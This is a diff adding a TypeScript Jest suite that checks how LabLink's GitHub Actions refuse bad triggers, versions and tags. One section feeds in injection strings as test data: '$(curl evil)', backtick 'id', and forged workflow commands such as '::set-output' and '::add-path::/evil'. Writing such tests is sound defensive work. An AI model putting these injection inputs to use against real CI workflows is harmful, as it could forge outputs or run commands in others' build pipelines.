@@ -1,0 +1,169 @@
+/**
+ * What shell in YAML did to LabLink, case by case: each test is named after what it prevents, and runs
+ * the real bundle as the runner would. The cases of tags and pyproject.toml are with validate-version-tag.
+ */
+import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
+import {
+  type ActionRun,
+  type EventName,
+  eventNames,
+  recordedEvent,
+  runAction,
+  type TemporaryDirectory,
+  temporaryDirectory,
+} from "@lablink-actions/testkit";
+
+let workspace: TemporaryDirectory;
+
+beforeAll(async () => {
+  workspace = await temporaryDirectory();
+  mkdirSync(join(workspace.path, "packages"));
+  for (const file of ["Dockerfile", "Dockerfile.dev"]) {
+    writeFileSync(join(workspace.path, "packages", file), "");
+  }
+});
+
+afterAll(() => workspace.remove());
+
+async function selectDockerfile(event: EventName, inputs: Record<string, string> = {}) {
+  const given = { dockerfile: "packages/Dockerfile", ...inputs };
+  return runAction("select-dockerfile", { event, with: given, workspace: workspace.path });
+}
+
+async function computeTags(event: EventName, inputs: Record<string, string> = {}) {
+  return runAction("compute-tags", { event, with: { image: "ghcr.io/talmolab/image", ...inputs } });
+}
+
+function expectRefusal(run: ActionRun, title: string): void {
+  expect(run.annotations.map((annotation) => annotation.title)).toContain(title);
+  expect(run.exitCode).toBe(1);
+  expect(run.outputs).toEqual({});
+}
+
+describe("1: production built from the development Dockerfile", () => {
+  test("prod dispatched from main builds from Dockerfile, whatever a push to main does", async () => {
+    const dispatched = await selectDockerfile("dispatch-prod", { version: "0.0.2a0" });
+    const pushed = await selectDockerfile("push-main");
+    expect(recordedEvent("dispatch-prod").ref).toBe(recordedEvent("push-main").ref);
+    expect(dispatched.outputs["dockerfile"]).toBe("packages/Dockerfile");
+    expect(pushed.outputs["dockerfile"]).toBe("packages/Dockerfile.dev");
+  });
+
+  test("the trigger is decided in one place: no action looks at event, ref or environment itself", () => {
+    for (const action of ["select-dockerfile", "compute-tags", "enforce-prod-version"]) {
+      const source = readFileSync(`actions/${action}/src/${action}.ts`, "utf8");
+      expect(source).toContain("decideChannel(");
+      expect(source).not.toMatch(/workflow_dispatch|"push"|refs\/heads|"prod"|\.environment\b/);
+    }
+  });
+});
+
+describe("2: development code pushed as a clean version", () => {
+  test("environment=test with a version filled in is refused", async () => {
+    for (const run of [
+      await selectDockerfile("dispatch-test", { version: "0.0.2a0" }),
+      await computeTags("dispatch-test", { version: "0.0.2a0" }),
+    ]) {
+      expectRefusal(run, "LA110 development-version");
+    }
+  });
+});
+
+describe("3: development code pushed as latest", () => {
+  test("the version latest is refused on development and on production", async () => {
+    const version = "latest";
+    expectRefusal(await computeTags("dispatch-test", { version }), "LA110 development-version");
+    expectRefusal(await computeTags("dispatch-prod", { version }), "LA103 prod-version-invalid");
+  });
+
+  test.each(eventNames.filter((name) => name !== "dispatch-prod"))(
+    "%s never tags latest",
+    async (event) => {
+      const { outputs } = await computeTags(event);
+      expect(outputs["tag-names"]?.split("\n") ?? []).not.toContain("latest");
+    },
+  );
+});
+
+describe("4: an unknown trigger falls back to a default", () => {
+  test.each<[EventName, string]>([
+    ["workflow-run", "LA101 event-unsupported"],
+    ["pull-request-target", "LA101 event-unsupported"],
+    ["dispatch-unknown", "LA105 environment-unknown"],
+  ])("%s is refused, not defaulted", async (event, title) => {
+    expectRefusal(await selectDockerfile(event), title);
+    expectRefusal(await computeTags(event), title);
+  });
+});
+
+describe("5: what is verified is not what was pushed", () => {
+  test("ci-test from a feature branch has one suffix, on the candidate and on every tag", async () => {
+    const { outputs } = await computeTags("dispatch-ci-test");
+    const { sha, ref } = recordedEvent("dispatch-ci-test");
+    expect(ref).toBe("refs/heads/feature/gpu-check");
+    expect(outputs["candidate"]).toBe(`ghcr.io/talmolab/image:linux-amd64-${sha}-test`);
+    expect(outputs["tags"]?.split("\n")).toContain(outputs["candidate"]);
+    for (const tag of outputs["tag-names"]?.split("\n") ?? []) expect(tag).toMatch(/-test$/);
+    const { outputs: selected } = await selectDockerfile("dispatch-ci-test");
+    expect(selected["tag-suffix"]).toBe("-test");
+  });
+});
+
+describe("15: a boolean that is always true", () => {
+  test.each(["yes", "1", "on", "", "tRue"])(
+    "strict: %j is refused, not guessed",
+    async (strict) => {
+      const inputs = { package: "lablink-allocator-service", branch: "", strict };
+      const run = await runAction("validate-version-tag", { event: "push-tag", with: inputs });
+      expectRefusal(run, "LA902 input-invalid");
+    },
+  );
+});
+
+describe("16: what is typed into a form becomes a tag, an output or a command", () => {
+  test.each([
+    "0.2.0,ghcr.io/evil/x:y",
+    "0.2.0\nghcr.io/evil/x:y",
+    "0.2.0\nchannel=production",
+    "0.2.0\nchannel<<EOF\nproduction\nEOF",
+    "::set-output name=channel::production",
+    "0.2.0\r::add-path::/evil",
+    "##[set-output name=channel;]production",
+    "$(curl evil)",
+    "0.2.0`id`",
+    "0.2.0 --push",
+  ])("the version %j is refused and forges nothing", async (version) => {
+    for (const run of [
+      await computeTags("dispatch-prod", { version }),
+      await selectDockerfile("dispatch-prod", { version }),
+    ]) {
+      expectRefusal(run, "LA103 prod-version-invalid");
+      expect(new Set(run.commands.map(({ name }) => name))).toEqual(new Set(["error"]));
+      expect(run.environment).toEqual({});
+      expect(run.path).toEqual([]);
+    }
+  });
+
+  test("no workflow or composite action of this repository has an expression inside run:", () => {
+    // zizmor and actionlint look at workflows; this holds without them.
+    for (const action of ["select-dockerfile", "compute-tags", "enforce-prod-version"]) {
+      expect(readFileSync(`actions/${action}/action.yml`, "utf8")).not.toMatch(/^\s+run:/m);
+    }
+  });
+});
+
+describe("19: a version that cannot be a tag reaches docker push", () => {
+  test.each(["1.0+local", "1!2.0", `1.${"1".repeat(130)}`])("%s is refused", async (version) => {
+    const title = "LA104 prod-version-untaggable";
+    expectRefusal(await computeTags("dispatch-prod", { version }), title);
+    expectRefusal(await selectDockerfile("dispatch-prod", { version }), title);
+  });
+
+  test("a version that only makes a longer tag too long is refused with the template", async () => {
+    const run = await computeTags("dispatch-prod", { version: `1.${"1".repeat(124)}` });
+    expectRefusal(run, "LA402 tag-invalid");
+    expect(run.annotations[0]?.message).toContain("the template {platform}-{version}");
+  });
+});
